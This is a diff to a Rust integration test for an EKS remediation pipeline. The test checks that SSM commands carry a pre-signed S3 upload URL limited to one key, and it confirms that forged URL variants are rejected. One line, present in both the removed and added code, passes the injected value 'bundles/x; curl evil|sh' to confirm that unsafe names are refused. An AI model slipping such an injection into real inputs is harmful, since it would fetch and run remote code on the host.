@@ -21,7 +21,7 @@ use eks_remedy_pipeline::model::{
     ClusterKey, CollectionRequest, FoldDelta, FoldResult, FoldWrite, IncidentKind,
 };
 use eks_remedy_pipeline::ports::*;
-use eks_remedy_pipeline::{CollectionMethod, PortError};
+use eks_remedy_pipeline::PortError;
 
 fn window() -> chrono::DateTime<chrono::Utc> {
     chrono::DateTime::parse_from_rfc3339("2026-10-19T05:00:00Z")
@@ -346,21 +346,95 @@ async fn queue_delivers_requests_with_delay() {
     assert_eq!(body, req);
 }
 
-#[tokio::test]
-async fn ssm_sends_the_collector_script_and_refuses_unsafe_names() {
+/// Run Command sends the stack's collection document (no longer `AWS-RunShellScript` with a script
+/// of the adapter's making: this test replaced the one that asserted that script, on purpose) with
+/// a pre-signed PUT URL for exactly the bundle's key. The URL writes that key and no other, nor
+/// with a longer expiry: the moto extension verifies pre-signed signatures as S3 does.
+#[tokio::test(flavor = "multi_thread")]
+async fn ssm_sends_the_collection_document_with_an_upload_url_for_one_key() {
     let sdk = sdk().await;
     let (id, _) = node(&sdk, Some("prod-ssm"), "m5.large").await;
+    let s3 = s3_client(&sdk);
+    let bucket = unique("bundles");
+    s3.create_bucket().bucket(&bucket).send().await.unwrap();
     let c = aws_sdk_ssm::Client::new(&sdk);
-    let ssm = Ssm::new(c.clone(), CollectionMethod::RunCommand, None);
-    let cmd = ssm
-        .collect(&id, "eks-remedy-bundles", "bundles/prod-ssm/i-1/inc_1/")
+    let document = "eks-remedy-CollectionDocument-Xy12AbCd34Ef";
+    let ssm = Ssm::run_command(c.clone(), s3.clone(), document);
+    let dir = format!("bundles/prod-ssm/{id}/prod-ssm:throttling:20261019T0500/");
+    let key = format!("{dir}eks_{id}_2026-10-19_0512-UTC.tar.gz");
+    let cmd = ssm.collect(&id, &bucket, &key).await.unwrap();
+
+    let listed = c.list_commands().command_id(&cmd).send().await.unwrap();
+    let command = &listed.commands()[0];
+    assert_eq!(command.document_name(), Some(document));
+    let params = command.parameters().unwrap();
+    assert_eq!(
+        params.keys().map(String::as_str).collect::<BTreeSet<_>>(),
+        BTreeSet::from(["ExecutionTimeout", "UploadUrl"])
+    );
+    assert_eq!(params["ExecutionTimeout"], ["1800".to_string()]);
+    let url = params["UploadUrl"][0].clone();
+    assert!(
+        url.contains(&format!(
+            "X-Amz-Expires={}",
+            eks_remedy_aws::ssm::UPLOAD_URL_SECONDS
+        )),
+        "{url}"
+    );
+    assert!(
+        !command.comment().unwrap_or_default().contains("X-Amz"),
+        "the URL is not logged"
+    );
+    let invocation = c
+        .get_command_invocation()
+        .command_id(&cmd)
+        .instance_id(&id)
+        .send()
         .await
         .unwrap();
-    let listed = c.list_commands().command_id(&cmd).send().await.unwrap();
-    let params = listed.commands()[0].parameters().unwrap();
-    let script = params["commands"].join("\n");
-    assert!(script.contains("aws s3 cp \"$bundle\" \"s3://eks-remedy-bundles/bundles/prod-ssm/i-1/inc_1/$(basename \"$bundle\")\""), "{script}");
-    let bad = ssm.collect(&id, "b", "bundles/x; curl evil|sh/").await;
+    assert_eq!(invocation.document_name(), Some(document));
+
+    // The URL writes exactly its key...
+    assert_eq!(http("PUT", &url, b"bundle").0, 200);
+    let stored = s3
+        .get_object()
+        .bucket(&bucket)
+        .key(&key)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(
+        stored.body.collect().await.unwrap().into_bytes().as_ref(),
+        b"bundle"
+    );
+    // ...and nothing else: another node's key, a forged report, a longer life, a read.
+    let name = key.rsplit('/').next().unwrap();
+    for (what, forged) in [
+        (
+            "another key",
+            url.replacen(&format!("eks_{id}_"), "eks_i-0ffffffffffffffff_", 1),
+        ),
+        ("a report", url.replacen(name, "report.json", 1)),
+        (
+            "a longer expiry",
+            url.replacen("X-Amz-Expires=2400", "X-Amz-Expires=604800", 1),
+        ),
+    ] {
+        assert_ne!(forged, url, "{what}: not forged");
+        let (status, body) = http("PUT", &forged, b"forged");
+        assert_eq!(status, 403, "{what}: {body}");
+    }
+    assert_eq!(http("GET", &url, b"").0, 403, "a PUT URL does not read");
+    let keys = Objects::new(s3.clone())
+        .list(&bucket, "", 10)
+        .await
+        .unwrap();
+    assert_eq!(keys, [key], "nothing but the one key was written");
+
+    // Unsafe names are refused before anything is signed or sent.
+    let bad = ssm
+        .collect(&id, &bucket, "bundles/x; curl evil|sh/k.tar.gz")
+        .await;
     assert!(matches!(bad, Err(PortError::Refused { .. })), "{bad:?}");
 }
 
@@ -379,7 +453,7 @@ async fn ssm_automation_starts_the_runbook_with_instance_bucket_and_role() {
         .unwrap();
     let c = aws_sdk_ssm::Client::new(&sdk);
     let role = "arn:aws:iam::123456789012:role/eks-remedy-AutomationRole-1";
-    let ssm = Ssm::new(c.clone(), CollectionMethod::Automation, Some(role.into()));
+    let ssm = Ssm::automation(c.clone(), Some(role.into()));
     let execution = ssm
         .collect(&id, &bucket, "bundles/prod-auto/i-1/inc_1/")
         .await
@@ -398,7 +472,7 @@ async fn ssm_automation_starts_the_runbook_with_instance_bucket_and_role() {
         Some("Success")
     );
     // Without a role the parameter is left out (the runbook then runs as the caller).
-    let plain = Ssm::new(c.clone(), CollectionMethod::Automation, None);
+    let plain = Ssm::automation(c.clone(), None);
     let execution = plain.collect(&id, &bucket, "bundles/x/").await.unwrap();
     let run = automation(&sdk, &execution).await;
     let params = run.parameters().unwrap();
@@ -472,16 +546,9 @@ async fn lifecycle_actions_are_completed_with_continue() {
         .is_err());
 }
 
-/// A GET over plain std TCP (no HTTP client crate needed for one loopback call).
+/// A GET of JSON over plain std TCP (no HTTP client crate needed for one loopback call).
 fn reqwest_free_get(url: &str) -> serde_json::Value {
-    use std::io::Write;
-    let rest = url.strip_prefix("http://").unwrap();
-    let (host, path) = rest.split_once('/').unwrap();
-    let mut s = std::net::TcpStream::connect(host).unwrap();
-    write!(s, "GET /{path} HTTP/1.0\r\nHost: {host}\r\n\r\n").unwrap();
-    let mut out = String::new();
-    s.read_to_string(&mut out).unwrap();
-    serde_json::from_str(out.split("\r\n\r\n").nth(1).unwrap()).unwrap()
+    serde_json::from_str(&http("GET", url, b"").1).unwrap()
 }
 
 #[tokio::test(flavor = "multi_thread")]
